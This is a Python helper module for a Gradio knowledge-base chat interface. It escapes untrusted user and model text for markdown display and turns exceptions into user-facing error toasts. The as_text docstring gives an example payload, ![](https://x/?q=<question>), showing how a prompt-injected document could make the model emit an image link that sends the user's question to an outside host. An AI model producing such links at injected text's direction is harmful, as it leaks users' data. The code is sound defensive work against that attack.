"""Small helpers shared by the tabs: user-facing errors and showing untrusted text as text."""

from __future__ import annotations

import functools
import logging
import re
from collections.abc import Callable
from typing import Any, TypeVar

import gradio as gr

from kb.types import KBError
from ui.i18n import lang_of, msg

log = logging.getLogger(__name__)

F = TypeVar("F", bound=Callable[..., Any])

# Fenced code (possibly still open while streaming) or an inline code span: markdown shows these literally.
_CODE = re.compile(r"```[\s\S]*?(?:```|$)|`[^`\n]+`")


def as_text(text: str) -> str:
    """Markdown-safe display of untrusted text (user messages, model answers): HTML in prose is escaped so it
    shows as typed, and markdown images, links and bare URLs show as text, so nothing a prompt-injected
    document makes the model write can make the browser fetch a URL (``![](https://x/?q=<question>)``).

    Code spans are left alone because markdown already shows them literally (escaping there would print
    ``&lt;``). The chatbot's HTML sanitizer and the page's Content-Security-Policy are the next lines of defence.
    """
    out, pos = [], 0
    for m in _CODE.finditer(text):
        out.append(_escape(text[pos:m.start()]))
        out.append(m.group(0))
        pos = m.end()
    out.append(_escape(text[pos:]))
    return "".join(out)


# A bare URL or www. name that GFM would turn into a link.
_AUTOLINK = re.compile(r"(?i)\b(https?|ftp)://|\bwww\.")


def _escape(s: str) -> str:
    # '>' stays so markdown quotes still work; without '<' no tag can open, without '[' no link or image
    # (inline, reference or definition) can form; a backslash-escaped ':' or '.' still shows, but ends autolinks.
    s = s.replace("\\", "\\\\").replace("&", "&amp;").replace("<", "&lt;").replace("[", "\\[")
    return _AUTOLINK.sub(lambda m: m.group(0).replace("://", "\\://").replace("www.", "www\\."), s)


def _request(args: tuple[Any, ...], kwargs: dict[str, Any]) -> gr.Request | None:
    for v in (*args, *kwargs.values()):
        if isinstance(v, gr.Request):
            return v
    return None


def user_errors(fn: F) -> F:
    """Show KBError messages as an error toast; anything else as a short internal-error note (logged)."""

    @functools.wraps(fn)
    def wrapper(*args: Any, **kwargs: Any) -> Any:
        try:
            return fn(*args, **kwargs)
        except gr.Error:
            raise
        except KBError as e:
            raise gr.Error(str(e), print_exception=False) from None
        except Exception as e:  # never a traceback in the browser
            log.exception("UI handler %s failed", fn.__name__)
            lang = lang_of(_request(args, kwargs))
            raise gr.Error(msg("internal_error", lang, kind=type(e).__name__), print_exception=False) from None

    return wrapper  # type: ignore[return-value]
